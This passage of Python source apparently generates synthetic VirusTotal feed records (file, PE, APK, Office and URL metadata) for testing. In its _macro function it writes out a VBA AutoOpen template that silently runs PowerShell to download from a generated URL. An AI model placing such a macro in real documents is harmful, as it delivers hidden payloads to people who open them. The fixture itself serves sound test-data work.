    signer, intermediate, root = rng.choice(SIGNERS)
    valid = ts - rng.randint(30, 700) * DAY
    info.update({
        "product": rng.choice(("Setup", "Update Service", name.split(".")[0])),
        "verified": rng.choice(("Signed", "Signed", "A certificate was explicitly revoked by its issuer.")),
        "signing date": _date(valid + rng.randint(1, 300) * DAY, "%I:%M %p %m/%d/%Y"),
        "signers": f"{signer}; {intermediate}; {root}",
        "signers details": [
            {"name": subject, "status": "Valid", "valid usage": "Code Signing",
             "algorithm": "sha256RSA", "valid from": _date(valid, "%I:%M %p %m/%d/%Y"),
             "valid to": _date(valid + 3 * 365 * DAY, "%I:%M %p %m/%d/%Y"),
             "serial number": _hex(rng, 32).upper(), "cert issuer": issuer,
             "thumbprint": _hex(rng, 40).upper()}
            for subject, issuer in ((signer, intermediate), (intermediate, root), (root, root))
        ],
        "x509": [{"name": signer, "algorithm": "sha256RSA", "valid from": _date(valid, "%I:%M %p %m/%d/%Y"),
                  "valid to": _date(valid + 3 * 365 * DAY, "%I:%M %p %m/%d/%Y"),
                  "serial number": _hex(rng, 32).upper(), "cert issuer": intermediate,
                  "thumbprint": _hex(rng, 40).upper(), "valid usage": "Code Signing"}],
    })
    return info


DLL_IMPORTS = {
    "KERNEL32.dll": ("GetProcAddress", "LoadLibraryA", "VirtualAlloc", "VirtualProtect", "CreateFileW",
                     "WriteFile", "ReadFile", "CloseHandle", "GetModuleHandleW", "Sleep", "CreateThread",
                     "GetTickCount", "ExitProcess", "GetCommandLineW", "GetLastError", "HeapAlloc",
                     "HeapFree", "GetStartupInfoW", "TerminateProcess", "IsDebuggerPresent",
                     "QueryPerformanceCounter", "GetCurrentProcessId", "WaitForSingleObject",
                     "CreateProcessW", "GetTempPathW", "DeleteFileW", "FindFirstFileW", "FindNextFileW"),
    "USER32.dll": ("MessageBoxW", "GetWindowTextW", "FindWindowW", "ShowWindow", "SetWindowsHookExW",
                   "GetAsyncKeyState", "GetForegroundWindow", "DispatchMessageW", "PeekMessageW"),
    "ADVAPI32.dll": ("RegOpenKeyExW", "RegSetValueExW", "RegCloseKey", "OpenProcessToken",
                     "AdjustTokenPrivileges", "CryptAcquireContextW", "CryptEncrypt", "GetUserNameW"),
    "WS2_32.dll": ("WSAStartup", "socket", "connect", "send", "recv", "gethostbyname", "closesocket"),
    "WININET.dll": ("InternetOpenW", "InternetOpenUrlW", "InternetReadFile", "HttpSendRequestW",
                    "InternetCloseHandle"),
    "SHELL32.dll": ("ShellExecuteW", "SHGetFolderPathW", "CommandLineToArgvW"),
    "ole32.dll": ("CoInitialize", "CoCreateInstance", "CoUninitialize"),
    "mscoree.dll": ("_CorExeMain",),
    "msvcrt.dll": ("malloc", "free", "memcpy", "memset", "strlen", "_wcsicmp", "sprintf"),
    "GDI32.dll": ("CreateCompatibleDC", "BitBlt", "SelectObject", "DeleteObject"),
    "CRYPT32.dll": ("CryptUnprotectData", "CertOpenStore", "CertFindCertificateInStore",
                    "CryptStringToBinaryA", "CertGetNameStringW", "CertCloseStore"),
    "ntdll.dll": ("NtQueryInformationProcess", "RtlGetVersion", "NtAllocateVirtualMemory",
                  "NtWriteVirtualMemory", "NtUnmapViewOfSection", "RtlMoveMemory", "NtResumeThread"),
    "OLEAUT32.dll": ("SysAllocString", "SysFreeString", "VariantInit", "VariantClear",
                     "SafeArrayCreate", "SafeArrayAccessData", "SysStringLen"),
    "SHLWAPI.dll": ("PathFileExistsW", "PathCombineW", "StrStrIW", "PathFindFileNameW",
                    "SHDeleteKeyW", "PathRemoveFileSpecW", "StrCmpNIW"),
    "IPHLPAPI.DLL": ("GetAdaptersInfo", "GetAdaptersAddresses", "GetIpNetTable"),
    "bcrypt.dll": ("BCryptOpenAlgorithmProvider", "BCryptGenerateSymmetricKey", "BCryptDecrypt",
                   "BCryptEncrypt", "BCryptDestroyKey", "BCryptCloseAlgorithmProvider"),
    "urlmon.dll": ("URLDownloadToFileW", "ObtainUserAgentString"),
    "COMCTL32.dll": ("InitCommonControlsEx", "ImageList_Create", "ImageList_AddMasked",
                     "PropertySheetW", "CreatePropertySheetPageW"),
    "api-ms-win-crt-runtime-l1-1-0.dll": ("_initterm", "_initterm_e", "_exit", "exit", "_cexit",
                                          "_get_initial_wide_environment", "_register_onexit_function",
                                          "_crt_atexit", "_seh_filter_exe", "_set_app_type",
                                          "_configure_wide_argv", "_initialize_wide_environment"),
    "VCRUNTIME140.dll": ("__std_type_info_destroy_list", "_CxxThrowException", "__CxxFrameHandler3",
                         "memmove", "__current_exception", "__current_exception_context",
                         "__C_specific_handler", "__std_exception_copy", "__std_exception_destroy"),
}
SECTION_NAMES = (".text", ".rdata", ".data", ".rsrc", ".reloc", ".pdata", "UPX0", "UPX1", ".tls", ".idata")
RESOURCE_TYPES = ("RT_ICON", "RT_GROUP_ICON", "RT_VERSION", "RT_MANIFEST", "RT_RCDATA")


def _pe_info(rng: random.Random, ts: int, dotnet: bool) -> Obj:
    if dotnet:
        imports = [{"library_name": "mscoree.dll", "imported_functions": ["_CorExeMain"]}]
    else:
        imports = [{"library_name": library, "imported_functions": _sample(rng, functions, 1, len(functions))}
                   for library, functions in DLL_IMPORTS.items()
                   if library != "mscoree.dll" and _chance(rng, 0.45)]
    address = 4096
    sections = []
    for name in _sample(rng, SECTION_NAMES, 3, 6):
        raw = rng.randint(1, 400) * 512
        sections.append({"name": name, "chi2": round(rng.uniform(100, 900000), 2),
                         "virtual_address": address, "flags": rng.choice(("rx", "r", "rw", "rwx")),
                         "raw_size": raw, "entropy": round(rng.uniform(0.5, 7.99), 2),
                         "virtual_size": raw - rng.randint(0, 511), "md5": _hex(rng, 32)})
        address += ((raw + 4095) // 4096) * 4096
    info: Obj = {"timestamp": ts - rng.randint(0, 3000) * DAY, "imphash": _hex(rng, 32),
                 "machine_type": rng.choice((332, 34404)), "entry_point": rng.randint(4096, 200000),
                 "sections": sections, "import_list": imports}
    if _chance(rng, 0.8):
        info["resource_details"] = [
            {"lang": rng.choice(("NEUTRAL", "ENGLISH US", "RUSSIAN", "CHINESE SIMPLIFIED")),
             "entropy": round(rng.uniform(1, 8), 3), "chi2": round(rng.uniform(100, 90000), 2),
             "filetype": rng.choice(("Data", "PNG", "XML 1.0")), "sha256": _hex(rng, 64), "type": resource}
            for resource in _sample(rng, RESOURCE_TYPES, 1, 5)
        ]
        info["resource_types"] = {item["type"]: 1 for item in info["resource_details"]}
        info["resource_langs"] = {info["resource_details"][0]["lang"]: len(info["resource_details"])}
    if _chance(rng, 0.5):
        info["rich_pe_header_hash"] = _hex(rng, 32)
        info["compiler_product_versions"] = [
            f"[C++] VS2022 v17.{rng.randint(0, 9)} build {rng.randint(30000, 33000)} count={rng.randint(1, 200)}"
            for _ in range(rng.randint(1, 5))
        ]
    if _chance(rng, 0.2):
        info["overlay"] = {"entropy": round(rng.uniform(5, 8), 3), "offset": address,
                           "chi2": round(rng.uniform(100, 9e5), 2), "filetype": "Data",
                           "md5": _hex(rng, 32), "size": rng.randint(100, 900000)}
    return info


def _pe_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    dotnet = _chance(rng, 0.3)
    obj["pe_info"] = _pe_info(rng, ts, dotnet)
    obj["authentihash"] = _hex(rng, 64)
    obj["creation_date"] = obj["pe_info"]["timestamp"]
    obj["signature_info"] = _signature_info(rng, name, ts)
    compiler = "VB.NET" if dotnet else "Microsoft Visual C/C++"
    obj["detectiteasy"] = {"filetype": "PE32", "values": [
        {"type": "Compiler", "name": compiler, "version": f"{rng.randint(16, 19)}.{rng.randint(0, 40)}"},
        {"type": "Linker", "name": "Microsoft Linker", "version": f"14.{rng.randint(0, 40)}"}]}
    if dotnet:
        obj["dot_net_assembly"] = {"assembly_name": name, "clr_version": "v4.0.30319",
                                   "tables_present": rng.randint(8, 20),
                                   "manifest_resource": [f"{_hex(rng, 10)}.Resources"]}
    if _chance(rng, 0.12):
        obj["packers"] = {"PEiD": rng.choice(("UPX -> www.upx.sourceforge.net", "Microsoft Visual C++ vx.x DLL")),
                          "F-PROT": rng.choice(("UPX", "Themida"))}
    obj["exiftool"] = {"MIMEType": "application/octet-stream", "FileType": "Win32 EXE",
                       "PEType": "PE32", "MachineType": "Intel 386 or later, and compatibles",
                       "LinkerVersion": f"{rng.randint(6, 14)}.{rng.randint(0, 40)}", "OriginalFileName": name,
                       "InternalName": name.split(".")[0], "FileVersion": obj["signature_info"]["file version"],
                       "CodeSize": str(rng.randint(1000, 900000)), "Subsystem": "Windows GUI",
                       "TimeStamp": _date(obj["pe_info"]["timestamp"], "%Y:%m:%d %H:%M:%S+00:00")}


ANDROID_PERMISSIONS = ("android.permission.INTERNET", "android.permission.READ_SMS",
                       "android.permission.RECEIVE_SMS", "android.permission.SEND_SMS",
                       "android.permission.READ_CONTACTS", "android.permission.ACCESS_FINE_LOCATION",
                       "android.permission.CAMERA", "android.permission.RECORD_AUDIO",
                       "android.permission.BIND_ACCESSIBILITY_SERVICE", "android.permission.SYSTEM_ALERT_WINDOW",
                       "android.permission.REQUEST_INSTALL_PACKAGES", "android.permission.READ_PHONE_STATE",
                       "android.permission.WAKE_LOCK", "android.permission.FOREGROUND_SERVICE")


APK_ACTIVITIES = ("Main", "Login", "Settings", "Web", "Splash", "Pay")
APK_STRINGS = ("VirtualApp", "su", "/system/bin/sh", "Landroid/telephony/SmsManager;", "%s://%s")


def _components(rng: random.Random, package: str, kind: str, names: tuple[str, ...], low: int,
                high: int) -> list[str]:
    return [f"{package}.{name}{kind}" for name in _sample(rng, names, low, high)]


def _permission_details(rng: random.Random, permissions: list[str]) -> Obj:
    details: Obj = {}
    for permission in permissions:
        words = permission.rsplit(".", 1)[-1].lower().replace("_", " ")
        details[permission] = {"permission_type": rng.choice(("dangerous", "normal", "signature")),
                               "short_description": words, "full_description": f"Allows the app to {words}."}
    return details


def _apk_certificate(rng: random.Random, package: str, ts: int) -> Obj:
    return {"Subject": {"CN": rng.choice(("Android Debug", "Unknown", package)), "O": "Android", "C": "US"},
            "validfrom": _date(ts - rng.randint(30, 3000) * DAY), "validto": _date(ts + 9000 * DAY),
            "serialnumber": _hex(rng, 16), "thumbprint": _hex(rng, 40),
            "Issuer": {"CN": "Android Debug", "O": "Android", "C": "US"}}


def _apk_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    """androguard: its StringsInformation is where APKs' URLs show up."""
    suffix = ("app", "mobile", "android", "wallet", "update")
    package = f"com.{rng.choice(SYLLABLES)}{rng.choice(SYLLABLES)}.{rng.choice(suffix)}"
    permissions = _sample(rng, ANDROID_PERMISSIONS, 2, 10)
    obj["androguard"] = {
        "Package": package, "AndroidApplication": 1, "AndroidApplicationError": False,
        "AndroidApplicationInfo": "APK", "AndroidVersionCode": str(rng.randint(1, 500)),
        "AndroidVersionName": f"{rng.randint(1, 9)}.{rng.randint(0, 9)}.{rng.randint(0, 20)}",
        "MinSdkVersion": str(rng.randint(16, 26)), "TargetSdkVersion": str(rng.randint(28, 34)),
        "Main Activity": f"{package}.MainActivity",
        "Activities": _components(rng, package, "Activity", APK_ACTIVITIES, 1, 4),
        "Services": _components(rng, package, "Service", ("Sync", "Accessibility", "Push", "Overlay"), 0, 3),
        "Receivers": _components(rng, package, "Receiver", ("Boot", "Sms", "Alarm"), 0, 2),
        "Providers": [],
        "Libraries": _sample(rng, ("org.apache.http.legacy", "androidx.window.extensions"), 0, 1),
        "StringsInformation": _urls(rng, 0, 12) + _sample(rng, APK_STRINGS, 0, 3),
        "permission_details": _permission_details(rng, permissions),
        "certificate": _apk_certificate(rng, package, ts),
        "VTAndroidInfo": 1.41,
    }


def _pdf_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    obj["pdf_info"] = {"header": f"%PDF-1.{rng.randint(3, 7)}", "num_pages": rng.randint(1, 40),
                       "num_obj": rng.randint(5, 900), "num_endobj": rng.randint(5, 900),
                       "num_stream": rng.randint(1, 300), "num_endstream": rng.randint(1, 300),
                       "js": rng.choice((0, 0, 1)), "javascript": rng.choice((0, 0, 1)),
                       "openaction": rng.choice((0, 1)), "acroform": rng.choice((0, 1)),
                       "autoaction": 0, "embedded_file": 0, "encrypted": 0, "flash": 0, "jbig2": 0,
                       "xfa": 0, "launch_action": 0, "suspicious_colors": 0, "trailer": 1, "xref": 1,
                       "startxref": 1, "num_launch_actions": 0, "num_object_streams": rng.randint(0, 9)}
    producer = rng.choice(("Microsoft® Word for Microsoft 365", "Skia/PDF m120", "iText 2.1.7"))
    obj["exiftool"] = {"MIMEType": "application/pdf", "FileType": "PDF",
                       "PDFVersion": obj["pdf_info"]["header"][5:], "Producer": producer,
                       "PageCount": str(obj["pdf_info"]["num_pages"]), "Linearized": "No"}


def _office_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    pages = str(rng.randint(1, 9))
    creator = rng.choice(("Admin", "user", "Пользователь", "Windows User"))
    created = _date(ts - rng.randint(1, 90) * DAY, "%Y-%m-%dT%H:%M:%SZ")
    obj["openxml_info"] = {
        "docprops_app": {"Application": "Microsoft Office Word", "AppVersion": "16.0000", "Pages": pages},
        "docprops_core": {"dc:creator": creator, "cp:lastModifiedBy": "Admin", "dcterms:created": created},
        "type_urls": _sample(rng, NOISE_URLS[9:16], 1, 4),
        "rels": {ATTACHED_TEMPLATE: _url(rng)} if _chance(rng, 0.3) else {},
        "file_type": "docx", "content_types": {"application/xml": 1, "image/png": rng.randint(0, 3)},
    }


ATTACHED_TEMPLATE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"


def _macro(rng: random.Random) -> Obj:
    code = f"Sub AutoOpen()\n Shell \"powershell -w hidden -c iwr {_plain_url(rng)}\"\nEnd Sub"
    return {"vba_code": code, "length": rng.randint(300, 9000), "patterns": ["shell", "autoopen"],
            "subfilename": "ThisWorkbook"}


def _ole_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    author = rng.choice(("Admin", "user", "Windows User"))
    code_page = "Cyrillic" if _chance(rng, 0.2) else "Latin I"
    obj["office_info"] = {
        "summary_info": {"author": author, "code_page": code_page,
                         "creation_datetime": _date(ts - rng.randint(1, 900) * DAY),
                         "application_name": "Microsoft Excel"},
        "macros": [_macro(rng)] if _chance(rng, 0.6) else [],
    }


def _html_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    obj["html_info"] = {"title": rng.choice(("Sign in to your account", "Invoice", "Document Shared", "Вход", "")),
                        "iframes": [{"attributes": [_url(rng)]} for _ in range(rng.randint(0, 2))],
                        "scripts": [{"attributes": [_url(rng)]} for _ in range(rng.randint(0, 4))]}


ELF_LIBS = ("libc.so.6", "libpthread.so.0", "libdl.so.2", "libm.so.6")
ELF_SECTIONS = (".init", ".text", ".fini", ".rodata", ".data", ".bss", ".ctors")
ELF_MACHINES = ("ARM", "MIPS R3000", "Advanced Micro Devices X86-64", "Intel 80386")


def _elf_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    header = {"class": "ELF32", "data": "2's complement, little endian", "type": "EXEC (Executable file)",
              "machine": rng.choice(ELF_MACHINES), "entrypoint": rng.randint(32768, 900000),
              "os_abi": "UNIX - System V", "num_section_headers": rng.randint(0, 30)}
    sections = [{"name": section, "section_type": "PROGBITS", "virtual_address": rng.randint(32768, 900000),
                 "physical_offset": rng.randint(0, 90000), "size": rng.randint(16, 90000), "flags": "AX"}
                for section in _sample(rng, ELF_SECTIONS, 0, 7)]
    obj["elf_info"] = {"header": header, "section_list": sections,
                       "shared_libraries": _sample(rng, ELF_LIBS, 0, 3)}


def _zip_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    children = rng.randint(1, 40)
    obj["bundle_info"] = {
        "type": "ZIP", "num_children": children, "uncompressed_size": rng.randint(1000, 9_000_000),
        "extensions": {"exe": rng.randint(0, 3), "dll": rng.randint(0, 5), "js": rng.randint(0, 2)},
        "file_types": {"peexe": rng.randint(0, 3), "unknown": rng.randint(0, 5)},
        "lowest_datetime": _date(ts - 90 * DAY), "highest_datetime": _date(ts - DAY),
    }


def _no_extras(rng: random.Random, obj: Obj, name: str, ts: int) -> None:
    return None


Extras = Callable[[random.Random, Obj, str, int], None]


class FileType(NamedTuple):
    """One kind of file in the feed: how VT labels it and which type-specific section it gets."""

    weight: int
    tag: str
    description: str
    extension: str
    magic: str
    trid: str
    platform: str  # as AV engines spell it in detection names
    families: tuple[str, ...]
    extras: Extras


FILE_TYPES = (
    FileType(34, "peexe", "Win32 EXE", "exe", "PE32 executable for MS Windows (GUI) Intel 80386 32-bit",
             "Win32 Executable (generic)", "Win32", FAMILIES_WIN, _pe_extras),
    FileType(10, "pedll", "Win32 DLL", "dll", "PE32+ executable for MS Windows (DLL) (GUI) Mono/.Net assembly",
             "Win64 Executable (generic)", "Win64", FAMILIES_WIN, _pe_extras),
    FileType(12, "apk", "Android", "apk", "Zip archive data, at least v2.0 to extract",
             "Android Package", "AndroidOS", FAMILIES_ANDROID, _apk_extras),
    FileType(6, "pdf", "PDF", "pdf", "PDF document, version 1.7",
             "Adobe Portable Document Format", "PDF", FAMILIES_DOC, _pdf_extras),
    FileType(5, "docx", "Office Open XML Document", "docx", "Microsoft Word 2007+",
             "Word Microsoft Office Open XML Format document", "MSOffice", FAMILIES_DOC, _office_extras),
    FileType(4, "xls", "MS Excel Spreadsheet", "xls", "CDF V2 Document, Little Endian, Os: Windows, Version 10.0",
             "Microsoft Excel sheet", "MSExcel", FAMILIES_DOC, _ole_extras),
    FileType(8, "html", "HTML", "html", "HTML document, UTF-8 Unicode text, with very long lines",
             "HyperText Markup Language", "HTML", FAMILIES_WEB, _html_extras),
    FileType(4, "javascript", "JavaScript", "js", "ASCII text, with very long lines",
             "JavaScript source", "JS", FAMILIES_WEB, _no_extras),
    FileType(6, "elf", "ELF", "elf",
             "ELF 32-bit LSB executable, ARM, EABI5 version 1 (SYSV), statically linked, stripped",
             "ELF Executable and Linkable format (Linux)", "Linux", FAMILIES_LINUX, _elf_extras),
    FileType(5, "zip", "ZIP", "zip", "Zip archive data, at least v2.0 to extract",
             "ZIP compressed archive", "Archive", FAMILIES_WIN, _zip_extras),
    FileType(3, "powershell", "Powershell", "ps1", "ASCII text, with CRLF line terminators",
             "Text - UTF-8 encoded", "PowerShell", FAMILIES_WIN, _no_extras),
    FileType(1, "lnk", "Windows shortcut", "lnk", "MS Windows shortcut, Item id list present, Has Relative path",
             "Windows Shortcut", "LNK", FAMILIES_WIN, _no_extras),
    FileType(2, "msi", "Windows Installer", "msi", "Composite Document File V2 Document, MSI Installer",
             "Microsoft Windows Installer", "Win32", FAMILIES_WIN, _no_extras),
)
FILE_TYPE_WEIGHTS = tuple(file_type.weight for file_type in FILE_TYPES)
FILE_OPTIONAL = ("meaningful_name", "ssdeep", "tlsh", "trid", "magic", "type_tags", "reputation",
                 "total_votes", "unique_sources", "exiftool", "detectiteasy")
FILE_TAGS = ("peexe", "overlay", "signed", "invalid-signature", "detect-debug-environment",
             "long-sleeps", "checks-network-adapters", "calls-wmi", "direct-cpu-clock-access",
             "runtime-modules", "persistence", "obfuscated", "spreader", "64bits", "assembly",
             "macros", "auto-open", "checks-user-input", "idle", "cve-2017-11882")
UNICODE_NAMES = ("счёт-фактура.exe", "發票_2024.pdf", "설치파일.exe", "factura_electrónica.zip",
                 "facture\u202egpj.exe", "Ödeme_Dekontu.docx", "عرض_سعر.xls", "🔥crack🔥.exe")


def _file_name(rng: random.Random, extension: str) -> str:
    word, separator = rng.choice(FILE_WORDS), rng.choice(("", "_", "-", " "))
    number = rng.randint(1, 9999) if _chance(rng, 0.5) else ""
    return f"{word}{separator}{number}.{extension}"


def _file_names(rng: random.Random, extension: str) -> list[str]:
    names = [_file_name(rng, extension) for _ in range(rng.randint(1, 4))]
    if _chance(rng, 0.15):
        names.append(rng.choice(UNICODE_NAMES))
    if _chance(rng, 0.2):
        user = rng.choice(("admin", "user", "Администратор"))
        names.append(f"C:\\Users\\{user}\\AppData\\Local\\Temp\\{_hex(rng, 8)}.{extension}")
    if _chance(rng, 0.3):
        names.append(_hex(rng, 64))
    return names


def _file_relationships(rng: random.Random) -> Obj:
    """contacted/embedded/in-the-wild URLs, as VT ships them in `relationships`."""
    relationships: Obj = {}
    for relation in ("contacted_urls", "embedded_urls", "itw_urls"):
        if _chance(rng, 0.25):
            urls = _urls(rng, 1, 8)
            relationships[relation] = {
                "data": [{"type": "url", "id": _url_id(url), "context_attributes": {"url": url}} for url in urls]
            }
    return relationships


def _vhash(rng: random.Random) -> str:
    choices = (f"{rng.randint(10**8, 10**9)}{_hex(rng, 8)}", f"0{rng.randint(10**7, 10**8)}\"z", _hex(rng, 32))
    return rng.choice(choices)


def _file_context(rng: random.Random) -> Obj:
    token = _b64ish(rng, 96).replace("/", "_").replace("+", "-")
    return {"download_url": f"{VT_API_URL}/feeds/files/{token}/download", "submitter": _submitter(rng)}


def _file_object(rng: random.Random, batch_time: dt.datetime) -> Obj:
    ts = _epoch(batch_time)
    kind = rng.choices(FILE_TYPES, FILE_TYPE_WEIGHTS)[0]
    md5, sha1, sha256 = _hex(rng, 32), _hex(rng, 40), _hex(rng, 64)
    size = int(rng.lognormvariate(11.5, 1.6)) + 64
    names = _file_names(rng, kind.extension)
    family, category = rng.choice(kind.families), rng.choice(THREAT_CATEGORIES)
    verdict = 0.0 if _chance(rng, 0.45) else rng.uniform(0.03, 0.85)
    values = _detection_values(rng, family, category, kind.platform, md5)
    engine_update = _date(ts - rng.randint(0, 2) * DAY, "%Y%m%d")
    results, stats = _file_engine_results(rng, verdict, values, kind.tag == "apk", engine_update)
    attributes: Obj = {
        "type_description": kind.description, "type_tag": kind.tag, "type_extension": kind.extension,
        "type_tags": _sample(rng, (kind.tag, "executable", "windows", "android", "document", "text"), 1, 3),
        "md5": md5, "sha1": sha1, "sha256": sha256, "ssdeep": _ssdeep(rng, size), "size": size,
        "magic": kind.magic, "names": names, "meaningful_name": names[0],
        "trid": [{"file_type": kind.trid, "probability": round(rng.uniform(40, 99), 1)},
                 {"file_type": "Generic Win/DOS Executable", "probability": round(rng.uniform(0, 20), 1)}],
        "tags": _sample(rng, (kind.tag,) + FILE_TAGS, 0, 8),
        "reputation": rng.choice((0, 0, 0, -1, -5, -23, 3)), "total_votes": _votes(rng),
        "last_analysis_stats": stats, "last_analysis_results": results,
        "downloadable": True, "capabilities_tags": [],
    }
    attributes.update(_file_times(rng, ts))
    if kind.tag not in ("lnk", "msi", "powershell"):
        attributes["tlsh"] = _tlsh(rng)
    if kind.tag in ("peexe", "pedll", "apk", "elf"):
        attributes["vhash"] = _vhash(rng)
    kind.extras(rng, attributes, names[0], ts)
    _add_file_verdict_details(rng, attributes, family, category, kind.families, stats["malicious"] > 0)
    obj = {"type": "file", "id": sha256, "links": {"self": f"{VT_API_URL}/files/{sha256}"},
           "attributes": attributes, "context_attributes": _file_context(rng)}
    relationships = _file_relationships(rng)
    if relationships:
        obj["relationships"] = relationships
    return obj


def _add_file_verdict_details(rng: random.Random, attributes: Obj, family: str, category: str,
                              families: tuple, malicious: bool) -> None:
    """The crowdsourced/sandbox sections, which VT mostly has for detected files."""
    likely = 0.7 if malicious else 0.1
    if malicious:
        attributes["popular_threat_classification"] = _threat_classification(rng, family, category, families)
    if _chance(rng, likely):
        attributes["crowdsourced_yara_results"] = _yara_results(rng, family)
    if _chance(rng, likely * 0.8):
        _sigma(rng, attributes)
    if _chance(rng, likely * 0.5):
        _ids(rng, attributes, family)
    if _chance(rng, likely):
        attributes["sandbox_verdicts"] = _sandbox_verdicts(rng, family, malicious)
    if _chance(rng, 0.05):
        attributes.pop("names")
    if _chance(rng, 0.05):
        attributes["tags"] = []
    _drop_some(rng, attributes, FILE_OPTIONAL)


# --------------------------------------------------------------------------------------------
# url objects
# --------------------------------------------------------------------------------------------

URL_CATEGORY_SOURCES = ("Forcepoint ThreatSeeker", "Sophos", "BitDefender", "alphaMountain.ai",
                        "Xcitium Verdict Cloud", "Webroot")
URL_CATEGORIES = ("phishing", "malicious web sites", "information technology", "business",
                  "parked", "newly registered websites", "uncategorized", "search engines and portals",
                  "suspicious", "file sharing", "Malware Sites", "spam URLs", "compromised websites")
TITLES = ("Sign in to your account", "Microsoft Office 365", "Index of /", "Login | Bank",
          "Just a moment...", "404 Not Found", "Welcome to nginx!", "Документ", "交易确认",
          "DHL Express - Track", "Account suspended", "")


def _url_categories(rng: random.Random) -> Obj:
    return {source: rng.choice(URL_CATEGORIES) for source in _sample(rng, URL_CATEGORY_SOURCES, 0, 4)}


CONTENT_TYPES = ("text/html; charset=UTF-8", "application/octet-stream", "text/html")
WEB_SERVERS = ("nginx", "Apache/2.4.41 (Ubuntu)", "cloudflare", "LiteSpeed", "Microsoft-IIS/10.0")
URL_TAGS = ("ip", "redirector", "external-resources", "iframes", "multiple-redirects",
            "third-party-cookies", "trackers", "base64-embedded")
URL_THREAT_NAMES = ("Mal/HTMLGen-A", "Phishing.Generic", "JS:Trojan.Cryxos", "HTML/Phishing.Agent")
URL_OPTIONAL = ("title", "categories", "tld", "last_final_url", "outgoing_links", "threat_names", "tags")


def _http_headers(rng: random.Random, length: int) -> Obj:
    content_type = rng.choice(CONTENT_TYPES)
    headers = {"Content-Type": content_type, "Content-Length": str(length),
               "Date": "Mon, 01 Jan 2024 00:00:00 GMT", "Server": rng.choice(WEB_SERVERS)}
    if _chance(rng, 0.4):
        headers["Set-Cookie"] = f"PHPSESSID={_hex(rng, 26)}; path=/"
    if _chance(rng, 0.3):
        headers["X-Powered-By"] = rng.choice(("PHP/7.4.33", "Express", "ASP.NET"))
    return headers


def _url_object(rng: random.Random, batch_time: dt.datetime) -> Obj:
    ts = _epoch(batch_time)
    url = _url(rng) if _chance(rng, 0.8) else _odd_url(rng)
    url_id = _url_id(url)
    badness = 0.0 if _chance(rng, 0.5) else rng.uniform(0.01, 0.2)
    results, stats = _url_engine_results(rng, badness)
    times = _file_times(rng, ts)
    times.pop("unique_sources")
    attributes: Obj = {"url": url, "last_final_url": url, "tld": _tld(url),
                       "categories": _url_categories(rng), "threat_names": [],
                       "tags": _sample(rng, URL_TAGS, 0, 3),
                       "reputation": rng.choice((0, 0, -1, -11, 2)), "total_votes": _votes(rng),
                       "last_analysis_stats": stats, "last_analysis_results": results,
                       "has_content": False}
    attributes.update(times)
    if stats["malicious"] and _chance(rng, 0.5):
        attributes["threat_names"] = _sample(rng, URL_THREAT_NAMES, 1, 2)
    if _chance(rng, 0.85):
        _add_url_response(rng, attributes, url)
    _drop_some(rng, attributes, URL_OPTIONAL)
    return {"type": "url", "id": url_id, "links": {"self": f"{VT_API_URL}/urls/{url_id}"},
            "attributes": attributes, "context_attributes": {"submitter": _submitter(rng)}}


def _tld(url: str) -> str:
    host = url.split("://", 1)[-1].split("/", 1)[0].split("@")[-1].rsplit(":", 1)[0].rstrip(".")
    return host.rsplit(".", 1)[-1].lower() if "." in host and not host.startswith("[") else ""


def _add_url_response(rng: random.Random, attributes: Obj, url: str) -> None:
    """What VT saw when it fetched the URL: redirects, final page, headers, links."""
    length = rng.randint(0, 400_000)
    if _chance(rng, 0.3):
        chain = [url] + [_url(rng) for _ in range(rng.randint(1, 3))]
        attributes["redirection_chain"] = chain
        attributes["last_final_url"] = chain[-1]
    attributes.update({
        "title": rng.choice(TITLES),
        "last_http_response_code": rng.choice((200, 200, 200, 301, 302, 403, 404, 500)),
        "last_http_response_content_length": length, "last_http_response_content_sha256": _hex(rng, 64),
        "last_http_response_headers": _http_headers(rng, length), "has_content": length > 0,
        "outgoing_links": _urls(rng, 0, 10),
    })
    if _chance(rng, 0.4):
        attributes["favicon"] = {"dhash": _hex(rng, 16), "raw_md5": _hex(rng, 32)}
    if _chance(rng, 0.4):
        attributes["html_meta"] = {"viewport": ["width=device-width, initial-scale=1"],
                                   "description": [rng.choice(TITLES) or "page"]}
    if _chance(rng, 0.3):
        tag = {"url": "https://www.googletagmanager.com/gtag/js", "id": f"G-{_hex(rng, 10).upper()}",
               "timestamp": attributes["last_analysis_date"]}
        attributes["trackers"] = {"Google Tag Manager": [tag]}
    if _chance(rng, 0.25):
        attributes["last_http_response_cookies"] = {"PHPSESSID": _hex(rng, 26)}


# --------------------------------------------------------------------------------------------
# domain and ip_address objects
# --------------------------------------------------------------------------------------------

CERT_ISSUERS = (  # issuer, CA Issuers URL, OCSP URL
    ({"C": "US", "O": "Let's Encrypt", "CN": "R11"}, "http://r11.i.lencr.org/", "http://r11.o.lencr.org"),
    ({"C": "US", "O": "Let's Encrypt", "CN": "E6"}, "http://e6.i.lencr.org/", "http://e6.o.lencr.org"),
    ({"C": "US", "O": "Google Trust Services", "CN": "WE1"}, "http://i.pki.goog/we1.crt", "http://o.pki.goog/we1"),
    ({"C": "US", "O": "Amazon", "OU": "Server CA 1B", "CN": "Amazon"},
     "http://crt.sca1b.amazontrust.com/sca1b.crt", "http://ocsp.sca1b.amazontrust.com"),
    ({"C": "US", "O": "DigiCert Inc", "CN": "DigiCert Global G2 TLS RSA SHA256 2020 CA1"},
     "http://cacerts.digicert.com/DigiCertGlobalG2TLSRSASHA2562020CA1-1.crt", "http://ocsp.digicert.com"),
    ({"C": "GB", "ST": "Greater Manchester", "L": "Salford", "O": "Sectigo Limited",
      "CN": "Sectigo RSA Domain Validation Secure Server CA"},
     "http://crt.sectigo.com/SectigoRSADomainValidationSecureServerCA.crt", "http://ocsp.sectigo.com"),
)


def _cert_extensions(rng: random.Random, host: str, ca_issuers: str, ocsp: str) -> Obj:
    return {
        "key_usage": ["digitalSignature", "keyEncipherment"], "extended_key_usage": ["serverAuth", "clientAuth"],
        "subject_alternative_name": [host, f"*.{host}"], "CA": False,
        "authority_key_identifier": {"keyid": _hex(rng, 40)}, "subject_key_identifier": _hex(rng, 40),
